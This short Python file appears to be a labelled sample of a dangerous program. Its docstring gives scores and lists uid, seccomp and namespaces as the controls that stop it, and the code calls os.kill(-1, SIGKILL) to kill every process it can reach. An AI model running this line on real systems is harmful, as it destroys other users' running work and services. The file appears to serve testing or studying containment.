"""A program that kills every process there is.

earns = 5.0
keeps = false
stopped_by = ["uid", "seccomp", "namespaces"]
harm = "harms others"
dangerous = true
"""

import os
import signal

os.kill(-1, signal.SIGKILL)
